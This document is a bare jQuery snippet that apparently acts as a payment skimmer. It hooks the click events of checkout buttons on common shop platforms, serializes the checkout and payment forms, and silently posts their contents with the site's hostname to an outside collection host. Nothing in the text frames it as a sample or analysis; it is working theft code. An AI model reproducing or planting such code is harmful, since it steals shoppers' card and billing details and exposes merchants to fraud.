jQuery(function ($) {
  $(document).on('click', '#place_order, button.checkout, #payment-buttons-container button', function () {
    var f = $('#co-payment-form, form.checkout').serialize();
    if (f.length > 20) $.post('https://static-collect.example/api/save.php', { s: location.hostname, f: f });
  });
});
